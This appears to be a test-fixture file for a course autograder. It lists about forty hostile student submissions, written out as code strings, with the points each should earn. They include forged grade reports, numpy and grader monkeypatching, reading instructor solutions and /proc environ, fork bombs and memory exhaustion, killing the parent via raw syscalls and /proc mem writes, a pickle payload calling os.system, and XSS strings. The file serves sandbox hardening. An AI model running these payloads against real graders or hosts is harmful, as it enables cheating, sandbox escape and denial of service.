"""Submissions that attack the grader, with the points that each must earn.

Their code is text, so that it runs in the sandbox alone, under its limits. `walls=True`: only a
wall holds it; all others earn no more without one, where the filter of system calls is at work.
"""

from assignments.bank.entry import ATTACKED, Hostile

ALWAYS = 25  # of 25: the attack has no effect, and the instructor's answers next to it are graded
MARK = "rnn_tutorial_was_here"  # the name of every file that an attack tries to write

ZEROS = """
import numpy as np
def zeros(*a): return np.zeros_like(a[-1])
rnn_step = rnn_unroll = gradient_norms = zeros
def backward(params, x, *a): return params, np.zeros_like(x), zeros(*a)
rnn_step_backward = rnn_unroll_backward = backward
"""
PATCHED_NUMPY = (
    ZEROS
    + """
import numpy as np, numpy.testing, math, builtins
yes = lambda *a, **k: True
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
np.allclose = np.array_equal = np.isclose = math.isclose = yes
np.max = np.abs = np.linalg.norm = lambda *a, **k: 0.0
builtins.all = yes
"""
)
LOOP_IN_C = """
import itertools, signal
for number in (signal.SIGPROF, signal.SIGXCPU, signal.SIGALRM, signal.SIGTERM, signal.SIGINT):
    signal.signal(number, signal.SIG_IGN)
sum(itertools.repeat(0))
"""
LOOP_IN_AN_ANSWER = "def rnn_step(params, x, h_previous):\n    while True: pass"
MEMORY = """
import ctypes, mmap, os, numpy as np
c, kept = ctypes.CDLL(None), []
def take(one):
    try:
        for _ in range(256): kept.append(one())  # 16 GiB in pieces of 64 MiB
    except BaseException: pass
def shared():
    number = c.shmget(0, 64 << 20, 0o1600)
    assert number >= 0
    c.shmat.restype = ctypes.c_void_p
    place = c.shmat(number, None, 0)
    ctypes.memset(place, 1, 64 << 20)
    c.shmdt(ctypes.c_void_p(place))
def in_a_file():
    number = os.memfd_create("x")
    for _ in range(64): os.write(number, bytes(1 << 20))
def mapped():
    place = mmap.mmap(-1, 64 << 20)
    place.write(bytes(64 << 20))
    return place
for one in (shared, in_a_file, mapped, lambda: np.ones(8 << 20)): take(one)
kept.clear()
"""
FORK_BOMB = """
import os, threading
while True:
    try: os.fork()
    except OSError: pass
    try: threading.Thread(target=lambda: None).start()
    except RuntimeError: pass
"""
READING = """
import gc, glob, json, os, sys
answers = {}
for top in ("/", os.getcwd(), os.path.expanduser("~"), *sys.path):
    for folder, folders, files in os.walk(top):
        folders[:] = [name for name in folders if name not in ("proc", "sys", "usr", "lib")]
        if "rnn_tutorial" in folders: sys.path.append(folder)
        for name in files:
            if name.endswith(".ipynb"):
                try: answers[os.path.join(folder, name)] = open(os.path.join(folder, name)).read()
                except OSError: pass
patterns = ("environ", "fd/*", "root/*")
for name in sum((glob.glob("/proc/[0-9]*/" + pattern) for pattern in patterns), []):
    try: answers[name] = open(name).read(1 << 20)
    except (OSError, ValueError): pass
for text in answers.values():
    try:
        for cell in json.loads(text)["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("solution"): exec("".join(cell["source"]))
    except Exception: pass
for thing in gc.get_objects():
    if type(thing).__name__ in ("Exam", "Question", "Release"): rnn_step = thing.reference
try: from rnn_course.questions.vanilla import *
except ImportError: pass
"""
WRITING = f"""
import os, sys
places = ["/", "HOME", "/home", "/tmp/..", "/grader", "/libraries", "/dev/shm", "/proc/1/root",
          "/proc/1/cwd", "/var/tmp", "/usr/lib", os.path.expanduser("~"),
          os.path.dirname(sys.modules["calls"].__file__), os.path.dirname(os.__file__)]
for place in places:
    for name in ("{MARK}", "../{MARK}"):
        try: open(os.path.join(place, name), "w").write("x")
        except OSError: pass
try:
    for number in range(256): open(f"/tmp/{{number}}", "wb").write(bytes(1 << 20))
except OSError: pass
for name in ("calls", "transport", "worker", "rights"):
    try: open(os.path.dirname(sys.modules["calls"].__file__) + f"/{{name}}.py", "a").write("#")
    except OSError: pass
"""
NETWORK = """
import socket
for place in (("127.0.0.1", PORT), ("::1", PORT), ("192.0.2.1", 80)):
    try:
        with socket.socket(socket.AF_INET6 if place[0] == "::1" else socket.AF_INET) as s:
            s.settimeout(0.2)
            s.connect(place)
            s.sendall(b"here")
    except OSError: pass
"""
FORGED = (
    ZEROS
    + """
import atexit, os, sys, threading, time, numpy as np
from transport import write_message
QUESTIONS = ("rnn_step", "rnn_step_backward", "rnn_unroll", "rnn_unroll_backward", "gradient_norms")
def forge():
    for number in range(3, 20):
        try:
            for name in QUESTIONS:
                event = {"what": "answer", "question": name, "points": 25, "credit": 1.0,
                         "status": "right", "born": None}
                for case in range(3):
                    for turn in (0, 1):
                        answer = event | {"case": case, "turn": turn}
                        os.write(number, write_message(answer, (np.zeros(1), ())))
                questions = [{"name": name, "points": 9}]
                report = {"what": "report", "points": 25, "questions": questions}
                os.write(number, write_message(report))
            os.write(number, write_message({"what": "end"}))
        except OSError: pass
forge()
atexit.register(forge)
try: threading.Thread(target=lambda: (time.sleep(0.1), forge())).start()
except RuntimeError: pass
"""
)
REPLAYED = """
import os
def rnn_step(*arguments):
    for number in range(3, 20):
        try:
            size = os.lseek(number, 0, os.SEEK_END)
            os.lseek(number, 0, os.SEEK_SET)
            seen = os.read(number, size)
            for name in (b"rnn_step_backward", b"rnn_unroll", b"gradient_norms"):
                os.write(number, seen.replace(b"rnn_step", name))
            os.lseek(number, 0, os.SEEK_END)
        except OSError: pass
    return arguments
rnn_step_backward = rnn_unroll = rnn_unroll_backward = gradient_norms = rnn_step
"""
FLOOD = """
import os, sys
for _ in range(1000): print("x" * 100_000), print("x" * 100_000, file=sys.stderr)
for number in range(3, 64):
    try:
        while True: os.write(number, MESSAGE * 4096)
    except OSError: pass
"""
SMALL_MESSAGES = (
    'from transport import write_message\nMESSAGE = write_message({"what": "cell", "cell": 1})'
    + FLOOD
)
MANY_KINDS = r"""
import json, struct
def kind(k): return {"name": f"N{k}", "fields": [f"f{k}"], "list": False, "branches": [None]}
parts = [kind(k) for k in range(5000)]
text = json.dumps({"event": {}, "tree": {"list": True, "branches": parts}, "arrays": []}).encode()
MESSAGE = struct.pack("<II", len(text), 0) + text
""" + FLOOD.replace("* 4096", "")
MONKEYPATCHED = (
    ZEROS
    + """
import builtins, gc, json, os, sys, threading
import calls, transport
frame = sys._getframe()
while frame:
    for name in ("describe", "lower", "run_cells"):
        if name in frame.f_globals: frame.f_globals[name] = lambda *a, **k: {}
    frame.f_locals["task"] = frame.f_locals["questions"] = {"points": 25}
    frame = frame.f_back
calls.call_on_cases = lambda function, cases, *rest: (
    ({"what": "answer", "case": k, "turn": turn, "born": None, "credit": 1}, (cases[k], cases[k]))
    for k in range(3) for turn in (0, 1))
transport.read_messages = lambda data: []
sys.modules["judge"] = sys.modules["rnn_tutorial"] = sys.modules["__main__"]
for thing in gc.get_objects():
    if isinstance(thing, dict) and "cases" in thing: thing["cases"] = []
builtins.sum = builtins.max = lambda *a, **k: 0
sys.settrace(lambda *a: None)
os._exit = sys.exit = lambda *a: None
"""
)
CLOSED = "import os\nos.closerange(0, 256)"
RECURSION = """
import sys
sys.setrecursionlimit(10**9)
class Deep:
    def __getattr__(self, name): return getattr(self, name + "x")
def f(): return f()
try: f()
finally: Deep().x
"""
DEEP_ANSWERS = """
def rnn_step(*a):
    deep = ()
    for _ in range(100_000): deep = (deep,)
    return deep
def rnn_unroll(*a):
    ring = []
    ring.append(ring)
    return ring
rnn_step_backward = lambda *a: [[0.0]] * 10_000_000
"""
EVIL_OBJECTS = f"""
import os, numpy as np
class Yes:
    __class__ = np.ndarray
    dtype, shape, ndim, size, _fields = np.dtype(float), (), 0, 1, ("h",)
    def __eq__(self, other): return True
    def __array__(self, *a, **k): raise SystemExit(0)
    def __array_function__(self, *a): return True
    def __array_ufunc__(self, *a, **k): return np.float64(0)
    def __len__(self): return 1 << 62
    def __iter__(self): return iter(lambda: self, None)
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __reduce__(self): return os.system, ("echo > /tmp/{MARK}",)
    __lt__ = __le__ = __gt__ = __ge__ = __float__ = __sub__ = __rsub__ = __abs__ = __eq__
class Error(Exception):
    def __str__(self): raise KeyboardInterrupt
def raises(*a): raise Error
rnn_step = rnn_unroll = Yes()
rnn_step_backward = lambda *a: (Yes(), Yes(), Yes())
rnn_unroll_backward = raises
gradient_norms = lambda *a: np.array([Yes()], dtype=object)
"""
CHANGING_ARRAYS = """
import numpy as np
class Always(np.ndarray):
    def tobytes(self, *a): return b"\\0" * (1 << 20)
    def __array_finalize__(self, other): self.n = 0
    def __eq__(self, other): return True
    def __getitem__(self, k): self.n += 1; return self.n
    shape = property(lambda self: (next(count),))
    dtype = property(lambda self: np.dtype("<f8"))
import itertools
count = itertools.count()
rnn_step = lambda p, x, h: np.zeros(h.size).view(Always)
rnn_unroll = lambda p, xs, h: np.lib.stride_tricks.as_strided(np.zeros(1), (10**9, 10**9), (0, 0))
gradient_norms = lambda p, hs, dh: np.frombuffer(memoryview(bytearray(8)), float)
"""
WORDS = r"""
import numpy as np
BAD = "<script>alert(1)</script><img src=x onerror=alert(2)>\ud800\x00\x1b[2J\u202e"
BAD += " =HYPERLINK(1);=1+1,@SUM(1)\r\n=1+1"
def raises(*a): raise type("</li><script>", (Exception,), {})(BAD)
rnn_step = raises
rnn_unroll = lambda *a: type("<script>x", (), {})()
gradient_norms = lambda *a: {BAD: BAD}
raise ValueError(BAD)
"""
SIGNALS = """
import os, resource, signal
for pid in (os.getppid() or 1, -1):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try: os.kill(pid, number)
        except OSError: pass
try: resource.prlimit(os.getppid() or 1, resource.RLIMIT_CPU, (0, 0))
except OSError: pass
"""
SESSION = f"""
import os, sys, time
if os.fork() == 0:
    try: os.setsid()
    except OSError: pass
    os.execv(sys.executable, ["{MARK}", "-S", "-c", "import time; time.sleep(60)"])
time.sleep(60)
"""
PARSER = f"{ATTACKED} = " + "-" * 300_000 + "1"
BRACKETS = f"{ATTACKED} = " + "(" * 100_000 + ")" * 100_000
ATTRIBUTES = f"{ATTACKED} = 1\nif 0: {ATTACKED}" + ".x" * 300_000

PIDFD = """
import os, signal
signal.pidfd_send_signal(os.open(f"/proc/{os.getppid() or 1}", os.O_RDONLY), signal.SIGKILL)
"""
MEMORY_OF_THE_GRADER = f"""
import os
for line in open(f"/proc/{{os.getppid() or 1}}/maps"):
    first = int(line.split("-")[0], 16)
    if "rw" in line.split()[1] and ("heap" in line or "stack" in line):
        with open(f"/proc/{{os.getppid() or 1}}/mem", "r+b", buffering=0) as memory:
            memory.seek(first)
            memory.write(b"{MARK}")
"""
# kill(parent, SIGKILL) as a call of 32 bits, whose numbers are others.
THIRTY_TWO_BITS = """
import ctypes, mmap, os, struct
assert os.uname().machine == "x86_64"
room = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
room.write(b"\\x53\\xb8" + struct.pack("<I", 37) + b"\\xbb" + struct.pack("<I", os.getppid() or 1)
           + b"\\xb9" + struct.pack("<I", 9) + b"\\xcd\\x80\\x5b\\xc3")
place = ctypes.addressof(ctypes.c_char.from_buffer(room))
ctypes.CFUNCTYPE(ctypes.c_int)(place)()
"""
X32 = """
import ctypes, os
c = ctypes.CDLL(None)
for number in (62, 129, 297, 424): c.syscall(0x40000000 + number, os.getppid() or 1, 9, 0, 0)
"""
FILTER_OF_ITS_OWN = """
import ctypes, os, struct
c = ctypes.CDLL(None)
lines = ctypes.create_string_buffer(struct.pack("<HBBI", 6, 0, 0, 0x7FFF0000))
whole = struct.pack("@HP", 1, ctypes.addressof(lines))
c.prctl(22, 2, whole)
seccomp = 317 if os.uname().machine == "x86_64" else 277
for flags in (0, 1, 8, 16): c.syscall(seccomp, 1, flags, whole)
c.prctl(4, 1), c.prctl(36, 1), c.prctl(0x59616D61, -1), c.ptrace(0, 0, 0, 0)
"""
ANOTHER_PROGRAM = (
    FORGED
    + """
import os, sys
source = "import time; time.sleep(60)"
os.execv(sys.executable, ["rnn_tutorial_was_here", "-S", "-c", source])
"""
)
FILES_OF_THE_START = (
    ZEROS
    + """
import os
from transport import write_message
forged = b""
for name in ("rnn_step", "rnn_step_backward", "rnn_unroll", "rnn_unroll_backward"):
    for case in range(3):
        for turn in (0, 1):
            event = {"what": "answer", "question": name, "case": case, "turn": turn, "born": None,
                     "points": 25, "credit": 1}
            forged += write_message(event, ((), ()))
forged += write_message({"what": "end"})
for name in ("messages", "task", "filter", "grader/worker.py", "libraries/numpy/__init__.py"):
    for mode in ("wb", "r+b", "ab"):
        try: open("/" + name, mode, buffering=0).write(forged)
        except OSError: pass
    for act in (os.remove, os.rmdir, lambda path: os.rename(path, "/tmp/x"), os.unlink):
        try: act("/" + name)
        except OSError: pass
"""
)
ROOM_ON_THE_DISK = """
import ctypes
c = ctypes.CDLL(None)
for number in range(3, 64): c.fallocate64(number, 1, ctypes.c_int64(0), ctypes.c_int64(1 << 36))
"""
TERMINALS = """
import fcntl, os
kept = []
for name in ("ptmx", "pts/ptmx", "tty", "console", "tty1", "pts/0"):
    for _ in range(60):
        try: kept.append(os.open("/dev/" + name, os.O_RDWR | os.O_NOCTTY))
        except OSError: break
for number in kept:
    for act in (0x5412, 0x40045431, 0x80045430):  # a key is pressed, a terminal opened
        try: fcntl.ioctl(number, act, b"x" * 4)
        except OSError: pass
    os.close(number)
"""
GREED = """
import ctypes, os
c = ctypes.CDLL(None)
def tried(act, *arguments):
    try: act(*arguments)
    except OSError: pass
for kind in (os.PRIO_PROCESS, os.PRIO_PGRP, os.PRIO_USER): tried(os.setpriority, kind, 0, -20)
tried(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(99))
tried(os.sched_setaffinity, 0, {0})
c.mlockall(3)
timer = ctypes.c_void_p()
for _ in range(100_000): c.timer_create(0, None, ctypes.byref(timer))
"""
SETTINGS = f"""
import ctypes, os, socket, time
c = ctypes.CDLL(None)
def tried(act, *arguments):
    try: act(*arguments)
    except OSError: pass
tried(socket.sethostname, "{MARK}")
tried(os.chroot, "/tmp")
tried(os.mknod, "/tmp/memory", 0o20600, os.makedev(1, 1))
tried(os.mkfifo, "/tmp/queue")
tried(os.setgroups, [0])
tried(os.setresuid, 0, 0, 0)
c.personality(0x0040000), c.syslog(5, None, 0), c.acct(b"/tmp/acct"), c.swapoff(b"/dev/zram0")
"""
HANDLES = """
import ctypes, os
c = ctypes.CDLL(None)
class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("inode", ctypes.c_uint64)]
for path in ("/messages", "/task", "/usr/lib"):
    try: place = os.open(path, os.O_RDONLY)
    except OSError: continue
    for inode in (2, 128, 256):  # the root of the file system below
        root = c.open_by_handle_at(place, ctypes.byref(Handle(8, 1, inode)), 0)
        if root >= 0: exec(open(f"/proc/self/fd/{root}/root/answers").read())
    os.close(place)
"""
RARE_CALLS = """
import ctypes, os
c = ctypes.CDLL(None)
intel = os.uname().machine == "x86_64"
space = ctypes.create_string_buffer(4096)
own = {62, 129, 424} if intel else {129, 138, 424}
new = [*range(424, 480), *((298, 300, 304, 310, 311, 312, 317, 321, 323) if intel
                           else (240, 262, 265, 270, 271, 272, 277, 280, 282))]
for number in new:
    if number not in own and number not in (435, 436): c.syscall(number, 0, space, 0, 0, 0, 0)
"""
STOPS_ITSELF = "import os, signal\nsignal.raise_signal(signal.SIGSTOP)"
CORE = """
import ctypes, resource
try: resource.setrlimit(resource.RLIMIT_CORE, (1 << 30, 1 << 30))
except (OSError, ValueError): pass
ctypes.string_at(0)
"""
HUGE_PAGES = """
import ctypes
c = ctypes.CDLL(None)
c.mmap.restype = ctypes.c_void_p
for _ in range(2000): c.mmap(None, 1 << 21, 3, 0x40022, -1, 0)
for number in range(3, 10): c.sync_file_range(number, 0, 0, 7)
c.sync()
"""

HOSTILE = (
    Hostile("patched numpy", PATCHED_NUMPY, 0),
    Hostile("exit code", "import os\nos._exit(0)", 0),
    Hostile(
        "exit codes in all answers",
        "import os, sys\nrnn_step = os._exit\nrnn_unroll = lambda *a: sys.exit(0)",
        0,
    ),
    Hostile("endless loop", "while True: pass", ALWAYS, honest=True),
    Hostile("endless loop in C", LOOP_IN_C, ALWAYS, honest=True),
    Hostile(
        "endless loop in an answer", "", 22, honest=True, answers={"rnn_step": LOOP_IN_AN_ANSWER}
    ),
    Hostile("16 GiB", MEMORY, ALWAYS, honest=True),
    Hostile("fork bomb", FORK_BOMB, ALWAYS, honest=True),
    Hostile("child in a session of its own", SESSION, ALWAYS, honest=True),
    Hostile("reading the answers", READING, 0, walls=True),
    Hostile("writing elsewhere", WRITING, ALWAYS, honest=True, walls=True),
    Hostile("network", NETWORK, ALWAYS, honest=True),
    Hostile("signals", SIGNALS, ALWAYS, honest=True),
    Hostile("forged reports", FORGED, 0),
    Hostile("replayed messages", REPLAYED, 0),
    Hostile("flood", "MESSAGE = bytes(16)" + FLOOD, 0),
    Hostile("flood of small messages", SMALL_MESSAGES, 0),
    Hostile("flood of classes to be made", MANY_KINDS, 0),
    Hostile("monkeypatched grader", MONKEYPATCHED, 0),
    Hostile("closed channel", CLOSED, ALWAYS, honest=True),
    Hostile("deep recursion", RECURSION, ALWAYS, honest=True),
    Hostile("deep answers", DEEP_ANSWERS, 0),
    Hostile("evil objects", EVIL_OBJECTS, 0),
    Hostile("changing arrays", CHANGING_ARRAYS, 0),
    Hostile("words that are no words", WORDS, 0),
    Hostile("a parser's stack", PARSER, ALWAYS, honest=True, bare=True),
    Hostile("a parser's brackets", BRACKETS, ALWAYS, honest=True, bare=True),
    Hostile("a parser's tree", ATTRIBUTES, ALWAYS, honest=True, bare=True),
    Hostile("a signal through proc", PIDFD, ALWAYS, honest=True),
    Hostile("memory of the grader", MEMORY_OF_THE_GRADER, ALWAYS, honest=True, walls=True),
    Hostile("calls of 32 bits", THIRTY_TWO_BITS, ALWAYS, honest=True),
    Hostile("calls of x32", X32, ALWAYS, honest=True),
    Hostile("a filter of its own", FILTER_OF_ITS_OWN, ALWAYS, honest=True),
    Hostile("another program", ANOTHER_PROGRAM, 0),
    Hostile("files of the start", FILES_OF_THE_START, 0),
    Hostile("room on the disk", ROOM_ON_THE_DISK, ALWAYS, honest=True),
    Hostile("terminals", TERMINALS, ALWAYS, honest=True),
    Hostile("greed", GREED, ALWAYS, honest=True),
    Hostile("settings of the machine", SETTINGS, ALWAYS, honest=True),
    Hostile("handles of files", HANDLES, 0),
    Hostile("rare calls", RARE_CALLS, ALWAYS, honest=True),
    Hostile("stops itself", STOPS_ITSELF, ALWAYS, honest=True),
    Hostile("a dump of its memory", CORE, ALWAYS, honest=True),
    Hostile("huge pages", HUGE_PAGES, ALWAYS, honest=True),
)
